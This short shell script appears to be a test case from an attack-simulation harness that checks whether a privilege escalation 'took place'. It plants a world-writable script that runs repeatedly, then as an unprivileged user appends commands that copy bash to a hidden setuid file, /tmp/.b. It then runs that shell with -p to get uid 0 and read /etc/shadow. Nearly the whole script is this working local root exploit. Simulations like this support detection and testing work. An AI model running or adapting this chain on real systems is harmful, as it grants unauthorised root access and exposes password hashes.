#!/bin/sh
. /opt/case/case.sh

printf '#!/bin/sh\ndate >>/var/log/tidy.log\n' >/usr/local/bin/tidy.sh && chmod 777 /usr/local/bin/tidy.sh
(for i in 1 2 3 4 5 6; do /usr/local/bin/tidy.sh; sleep 1; done) & jobs=$!
sleep 1
setpriv --reuid 1000 --regid 1000 --clear-groups sh -c 'find / -xdev -type f -perm -o+w 2>/dev/null | head -n 20; echo "cp /bin/bash /tmp/.b; chmod 4755 /tmp/.b" >>/usr/local/bin/tidy.sh'
wait $jobs
setpriv --reuid 1000 --regid 1000 --clear-groups /tmp/.b -p -c 'id -u; cat /etc/shadow' | grep -q '^0$'
took_place
